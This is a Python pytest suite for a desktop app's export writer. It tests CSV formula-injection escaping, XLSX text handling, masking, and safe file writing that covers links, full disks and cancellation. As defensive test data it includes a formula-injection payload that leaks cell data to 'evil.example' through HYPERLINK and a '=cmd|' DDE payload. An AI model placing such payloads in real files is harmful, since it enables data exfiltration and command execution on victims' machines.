"""Exports as attacks: cells that would be run, disks that are full, names that are taken, links, and Cancel."""

from __future__ import annotations

import csv
import gc
import io
import json
import os
import stat
import sys
import zipfile
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any

import pytest
import python_calamine
from hypothesis import given
from hypothesis import strategies as st

from desktop.export.content import Export, ExportColumn, ExportFormat, ExportHeader, Separator
from desktop.export.writer import ExportError, ExportProblem, ExportProgress, file_name, pieces, safe_cell, write
from desktop.privacy.masking import BULLETS, Masking, Sensitivity
from desktop.twilio.types import ParticipantKind, ParticipantQuery
from tests.conversation_rows import from_text, received
from tests.table_rows import row, rows

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from desktop.twilio.rows import ParticipantConversation

NOW = datetime(2026, 11, 23, 14, 12, tzinfo=UTC)
HEADER = ExportHeader((ParticipantQuery(ParticipantKind.ADDRESS, "+15558675310"),), "default", NOW, True, "0.1.0")
NAME = ExportColumn("Friendly name", lambda one: one.conversation_friendly_name or "")
SID = ExportColumn("Conversation SID", lambda one: one.conversation_sid or "")
POSIX = pytest.mark.skipif(os.name == "nt", reason="POSIX permissions and links")


def export(found: list[ParticipantConversation], kind: ExportFormat = ExportFormat.CSV, **fields: object) -> Export:
    return Export(found, kind, (NAME, SID), HEADER, **fields)  # type: ignore[arg-type]  # a test's own fields


def text_of(given: Export) -> str:
    return b"".join(content for content, _ in pieces(given)).decode()


def named(name: str) -> ParticipantConversation:
    return row(1, conversation_friendly_name=name)


def cells(given: Export) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text_of(given), newline="")))[1:]


# Cells


@pytest.mark.parametrize(
    "first", ["=", "+", "-", "@", "\t", "\r", "\x00", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
)
def test_a_cell_that_a_spreadsheet_would_run_begins_with_an_apostrophe(first: str) -> None:
    attack = first + 'HYPERLINK("http://evil.example?"&A1;"x")'

    found = cells(export([named(attack)]))[0][0]

    assert found == "'" + attack


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r", "\r\n"])
def test_a_cell_that_another_separator_would_cut_holds_no_formula_either(separator: str) -> None:
    found = cells(export([named(f"Order{separator}=1+1")]))[0][0]

    assert f"{separator}'=1+1" in found


@pytest.mark.parametrize("text", ["Order 1", "a=b", "1-2", "me@example.com", "'=1", " =1", "", "注文", "a; b", "x\ny"])
def test_any_other_cell_is_exact(text: str) -> None:
    assert safe_cell(text) == text


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=12))
def test_nothing_is_lost_by_being_made_safe(text: str) -> None:
    safe = safe_cell(text)

    assert safe.replace("'", "") == text.replace("'", "")
    assert not safe or safe[0] not in "=+-@\t\r\n\x00"


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=12), min_size=1, max_size=5))
def test_exact_csv_is_read_back_as_it_was(names: list[str]) -> None:
    found = cells(export([named(name) for name in names], ExportFormat.EXACT_CSV))

    assert [line[0] for line in found] == names


def test_titles_are_cells_too() -> None:
    hostile = Export([row(1)], ExportFormat.CSV, (ExportColumn("=cmd|' /C calc'!A0", lambda _: "x"),), HEADER)

    assert text_of(hostile).startswith("\"'=cmd")


def test_a_byte_order_mark_stands_first_and_only_if_chosen() -> None:
    assert text_of(export([row(1)], bom=True)).startswith('\ufeff"Friendly name"')
    assert "\ufeff" not in text_of(export([row(1)]))


# JSON


@pytest.mark.parametrize("kind", [ExportFormat.JSON_LINES, ExportFormat.JSON])
def test_rows_are_written_as_received(kind: ExportFormat) -> None:
    received_text = (
        '{"conversation_sid": "CH1", "conversation_state" : "active", "n": 1.50, "n": 10000000000000000000001}'
    )

    assert received_text in text_of(export([from_text(received_text)], kind))


def test_each_line_of_json_lines_is_one_row_whatever_it_looked_like() -> None:
    spread = json.dumps(received(), indent=2).replace("\n", "\r\n")
    broken = '{"conversation_sid": "CH1", "x": "a\nb", "y": nope}'

    lines = text_of(export([from_text(spread), from_text(broken)], ExportFormat.JSON_LINES)).splitlines()

    assert json.loads(lines[0])["conversation_sid"] == received()["conversation_sid"]
    assert json.loads(lines[1]) == broken
    assert len(lines) == 2


def test_the_file_says_what_was_asked_and_when() -> None:
    found = json.loads(text_of(export(rows(3), ExportFormat.JSON)))

    assert found["convolook"] == {
        "format": 1,
        "version": "0.1.0",
        "time": "2026-11-23T14:12:00Z",
        "complete": True,
        "rows": 3,
        "scope": "default",
        "masked": False,
        "queries": [{"kind": "Address", "text": "+15558675310"}],
    }
    assert len(found["conversations"]) == 3


@pytest.mark.parametrize("kind", [ExportFormat.JSON_LINES, ExportFormat.JSON])
def test_masked_files_name_nobody(kind: ExportFormat) -> None:
    one = from_text(json.dumps(received(conversation_friendly_name="Ana Maria", links={"Ana Maria": "Ana Maria"})))

    text = text_of(export([one], kind, masking=Masking(active=True)))

    assert "Ana Maria" not in text
    assert "+1" not in text
    assert BULLETS in text
    assert one.conversation_sid is not None
    assert one.conversation_sid in text


@pytest.mark.parametrize("kind", list(ExportFormat))
def test_lone_surrogates_and_bytes_that_are_no_text_can_be_written(kind: ExportFormat, tmp_path: Path) -> None:
    one = from_text('{"conversation_sid": "CH1", "conversation_friendly_name": "a\\ud800b"}')
    column = ExportColumn(
        "Name", lambda found: Masking().copied(found.conversation_friendly_name or "", Sensitivity.PUBLIC)
    )

    write(tmp_path / "x", Export([one], kind, (column,), HEADER), ExportProgress(), replace=False)

    content = (tmp_path / "x").read_bytes()
    if kind is ExportFormat.XLSX:
        assert sheets(content)["Conversations"] == [["Name"], ["a\ufffdb"]]
    else:
        assert content.decode()


# Workbooks


def sheets(content: bytes) -> dict[str, list[list[Any]]]:
    """Return the cells of a workbook as another program reads them."""
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def about(content: bytes) -> dict[str, str]:
    return {str(name): str(value) for name, value in sheets(content)["About"]}


def workbook(given: Export) -> bytes:
    return b"".join(content for content, _ in pieces(given))


@pytest.mark.parametrize(
    "text",
    ["+14155550142", "0049171", "12345678901234567890", "=1+1", "@SUM(A1)", "2026-11-23", "1e5", "TRUE", "http://x.y/"],
)
def test_text_stays_text_in_a_workbook(text: str) -> None:
    content = workbook(export([named(text)], ExportFormat.XLSX))

    assert sheets(content)["Conversations"][1][0] == text
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet


def test_instants_are_dates_in_utc_and_odd_ones_stay_text() -> None:
    first = "1900-01-01T00:00:00Z"
    column = ExportColumn(
        "Date updated", lambda one: one.conversation_date_updated or "", lambda one: one.date_updated_s
    )
    found = [
        row(1, conversation_date_updated="2026-11-23T09:45:10Z"),
        from_text('{"conversation_date_updated": "soon"}'),
        row(2, conversation_date_updated=first),
    ]
    lines = sheets(workbook(Export(found, ExportFormat.XLSX, (column,), HEADER)))["Conversations"]

    assert lines == [["Date updated (UTC)"], [datetime(2026, 11, 23, 9, 45, 10)], ["soon"], [first]]  # noqa: DTZ001 - a sheet's


def test_longest_texts_fit_into_a_cell() -> None:
    [[_, _], [name, _]] = sheets(workbook(export([named("x" * 40_000)], ExportFormat.XLSX)))["Conversations"]

    assert (len(str(name)), str(name)[-1]) == (32_767, "…")


def test_workbook_says_what_was_asked_and_hides_it_while_masked() -> None:
    plain: dict[str, str] = about(workbook(export([named("x")], ExportFormat.XLSX)))
    hidden: dict[str, str] = about(workbook(export([named("x")], ExportFormat.XLSX, masking=Masking(active=True))))

    assert (plain["Address"], plain["Complete"]) == ("+15558675310", "yes")
    assert (hidden["Address"], hidden["Masked"]) == (BULLETS, "yes")


# The participant, and what stands between cells


@pytest.mark.parametrize("separator", Separator)
def test_cells_stand_between_the_chosen_separator(separator: Separator) -> None:
    text = text_of(export([named("a;b,c")], ExportFormat.CSV, separator=separator))

    assert list(csv.reader(io.StringIO(text), delimiter=separator.value))[1][0] == "a;b,c"


def test_participant_stands_in_the_first_column_and_in_each_json_line() -> None:
    who = ExportColumn("Participant", lambda _: "+15558675310")
    table = text_of(export([named("x")], ExportFormat.EXACT_CSV, participant=who))
    line = text_of(export([named("x")], ExportFormat.JSON_LINES, participant=who))

    assert table.splitlines()[0].startswith("Participant,")
    assert table.splitlines()[1].startswith("+15558675310,")
    found = json.loads(line)
    assert (next(iter(found)), found["participant"]) == ("participant", "+15558675310")
    assert len(found) > 1


# Names


@pytest.mark.parametrize(
    ("kind", "complete", "name"),
    [
        (ExportFormat.CSV, False, "convolook-2026-11-23-1412-312-partial.csv"),
        (ExportFormat.EXACT_CSV, True, "convolook-2026-11-23-1412-312.csv"),
        (ExportFormat.JSON_LINES, True, "convolook-2026-11-23-1412-312.jsonl"),
        (ExportFormat.JSON, False, "convolook-2026-11-23-1412-312-partial.json"),
    ],
)
def test_a_name_tells_when_how_many_and_whether_rows_are_missing(kind: ExportFormat, complete: bool, name: str) -> None:
    assert file_name(NOW, 312, kind, complete=complete) == name


# Files


def problem_of(
    path: Path, given: Export, *, replace: bool = False, progress: ExportProgress | None = None
) -> ExportProblem:
    with pytest.raises(ExportError) as caught:
        write(path, given, progress or ExportProgress(), replace=replace)
    return caught.value.problem


@pytest.fixture
def folder(tmp_path: Path) -> Iterator[Path]:
    """Yield an empty folder, and check that nothing but what a test names is left in it."""
    yield tmp_path
    assert not [one.name for one in tmp_path.iterdir() if one.name.startswith(".convolook")]


def test_the_file_is_what_was_made(folder: Path) -> None:
    write(folder / "x.csv", export(rows(2500)), progress := ExportProgress(), replace=False)

    assert (folder / "x.csv").read_bytes().decode() == text_of(export(rows(2500)))
    assert progress.rows_done == 2500


@POSIX
def test_only_its_owner_may_read_it(folder: Path) -> None:
    before = os.umask(0)
    try:
        write(folder / "x.csv", export(rows(1)), ExportProgress(), replace=False)
    finally:
        os.umask(before)

    assert stat.S_IMODE((folder / "x.csv").stat().st_mode) == 0o600


def test_another_file_is_never_replaced_unasked(folder: Path) -> None:
    (folder / "x.csv").write_text("mine")

    assert problem_of(folder / "x.csv", export(rows(1))) is ExportProblem.EXISTS
    assert (folder / "x.csv").read_text() == "mine"


def test_a_file_that_appears_meanwhile_is_not_replaced(folder: Path) -> None:
    def appears(_: ParticipantConversation) -> str:
        (folder / "x.csv").write_text("mine")
        return "x"

    given = Export(rows(1), ExportFormat.CSV, (ExportColumn("X", appears),), HEADER)

    assert problem_of(folder / "x.csv", given) is ExportProblem.EXISTS
    assert (folder / "x.csv").read_text() == "mine"


def test_a_file_is_replaced_when_its_owner_agreed(folder: Path) -> None:
    (folder / "x.csv").write_text("old")

    write(folder / "x.csv", export(rows(1)), ExportProgress(), replace=True)

    assert (folder / "x.csv").read_text("utf-8").startswith('"Friendly name"')


@POSIX
@pytest.mark.parametrize("replace", [True, False])
@pytest.mark.parametrize("target", ["there", "not there"])
def test_a_link_is_not_followed(folder: Path, target: str, replace: bool) -> None:
    (folder / "there").write_text("mine")
    (folder / "x.csv").symlink_to(folder / target)

    assert problem_of(folder / "x.csv", export(rows(1)), replace=replace) is ExportProblem.LINK
    assert (folder / "there").read_text() == "mine"
    assert not (folder / "not there").exists()


@POSIX
def test_what_is_no_file_stays_what_it_is(folder: Path) -> None:
    os.mkfifo(folder / "pipe")
    (folder / "inner").mkdir()

    assert problem_of(folder / "pipe", export(rows(1)), replace=True) is ExportProblem.NOT_A_FILE
    assert problem_of(folder / "inner", export(rows(1)), replace=True) is ExportProblem.NOT_A_FILE
    assert stat.S_ISFIFO((folder / "pipe").lstat().st_mode)


@pytest.mark.skipif(sys.platform == "win32", reason="no limit on the size of files")
@pytest.mark.parametrize("replace", [True, False])
def test_a_full_disk_leaves_nothing_behind(folder: Path, replace: bool) -> None:
    import resource

    if replace:
        (folder / "x.csv").write_text("mine")
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, before[1]))
    try:
        problem = problem_of(folder / "x.csv", export(rows(2000)), replace=replace)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)

    assert problem is ExportProblem.FULL
    assert [one.read_text() for one in folder.iterdir()] == (["mine"] if replace else [])


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="nothing is read-only for root")
def test_a_read_only_folder_is_said_so(folder: Path) -> None:
    folder.chmod(0o500)
    try:
        assert problem_of(folder / "x.csv", export(rows(1))) is ExportProblem.DENIED
    finally:
        folder.chmod(0o700)


@pytest.mark.parametrize("code", ["EACCES", "EROFS", "EPERM"])
def test_a_folder_that_refuses_is_said_so(folder: Path, code: str, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    def refuse(*_: object) -> int:
        raise OSError(getattr(errno, code), "refused")

    monkeypatch.setattr(os, "open", refuse)

    assert problem_of(folder / "x.csv", export(rows(1))) is ExportProblem.DENIED


def test_a_folder_that_is_not_there_is_said_so(folder: Path) -> None:
    assert problem_of(folder / "gone" / "x.csv", export(rows(1))) is ExportProblem.NO_FOLDER


@pytest.mark.parametrize("name", ["x" * 300 + ".csv", "x\x00.csv"])
def test_a_name_that_no_file_can_have_is_said_so(folder: Path, name: str) -> None:
    assert problem_of(folder / name, export(rows(1))) is ExportProblem.NAME


def test_a_defect_in_a_column_is_not_told_as_a_name_that_cannot_be_used(folder: Path) -> None:
    broken = ExportColumn("Broken", lambda one: str(int(one.conversation_friendly_name or "")))

    with pytest.raises(ValueError, match="invalid literal"):
        write(folder / "a.csv", Export(rows(1), ExportFormat.CSV, (broken,), HEADER), ExportProgress(), replace=False)

    assert not list(folder.iterdir())


def test_a_cancelled_export_leaves_nothing_behind(folder: Path) -> None:
    progress = ExportProgress()

    def cancel(one: ParticipantConversation) -> str:
        progress.cancelled = True
        return one.conversation_sid or ""

    given = Export(rows(3000), ExportFormat.CSV, (ExportColumn("X", cancel),), HEADER)

    assert problem_of(folder / "x.csv", given, progress=progress) is ExportProblem.CANCELLED
    assert not list(folder.iterdir())
    assert progress.rows_done < 3000


def test_an_error_tells_neither_name_nor_folder(folder: Path) -> None:
    with pytest.raises(ExportError) as caught:
        write(folder / "gone" / "secret.csv", export(rows(1)), ExportProgress(), replace=False)

    assert "secret" not in f"{caught.value!r}{caught.value.__cause__}"
    assert caught.value.__suppress_context__


def test_a_file_system_without_hard_links_is_written_too(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object) -> None:
        raise OSError(95, "not supported")

    monkeypatch.setattr(os, "link", refuse)

    write(folder / "x.csv", export(rows(1)), ExportProgress(), replace=False)

    assert (folder / "x.csv").exists()


def test_cancelled_workbook_leaves_neither_file_nor_complaint(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    progress = ExportProgress(cancelled=True)
    with pytest.raises(ExportError):
        write(tmp_path / "x.xlsx", export(rows(3000), ExportFormat.XLSX), progress, replace=False)
    gc.collect()

    assert list(tmp_path.iterdir()) == []
    assert capfd.readouterr() == ("", "")


@pytest.mark.parametrize("sign", ["x", "é", "😀"])
def test_a_cell_of_a_workbook_holds_as_many_utf_16_units_as_spreadsheets_take(sign: str) -> None:
    found = export([named(sign * 40_000)], ExportFormat.XLSX)

    packed = b"".join(content for content, _ in pieces(found))
    workbook = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(packed))
    text = workbook.get_sheet_by_index(0).to_python()[1][0]

    assert isinstance(text, str)
    assert 32_760 <= len(text.encode("utf-16-le")) // 2 <= 32_767
    assert text.rstrip("…").strip(sign) == ""
